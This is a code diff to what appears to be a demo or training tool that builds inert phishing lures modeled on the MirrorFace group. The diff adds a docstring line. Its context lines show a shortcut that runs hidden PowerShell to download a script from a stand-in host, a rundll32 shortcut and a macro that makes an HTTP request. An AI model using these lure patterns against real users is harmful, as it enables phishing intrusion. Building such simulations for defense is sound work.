@@ -585,7 +585,9 @@ DEMO_URL = "https://example.invalid/aptlink-demo"
 def lure_attachments() -> list[Lure]:
     """Attachments shaped like MirrorFace's (docs/mirrorface-facts.md): ZIPs with a password in the
     body, ``.docx.lnk`` shortcuts, SFX posing as documents, remote templates, macro documents,
-    disk images, HTML smuggling. Each is inert (commands name ``example.invalid``)."""
+    disk images, HTML smuggling. Each is inert (commands name ``example.invalid``).
+
+    Long because it is a table: one entry per lure, read top to bottom."""
     lnk = make_lnk(POWERSHELL, f"-w hidden -c iwr {DEMO_URL}/a.ps1", WORD_ICON)
     rundll = make_lnk(r"C:\Windows\System32\rundll32.exe", r"..\data\doc.dll,Start", WORD_ICON)
     macro = f'MsgBox "aptlink demo"\nSet x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "{DEMO_URL}/m", False'
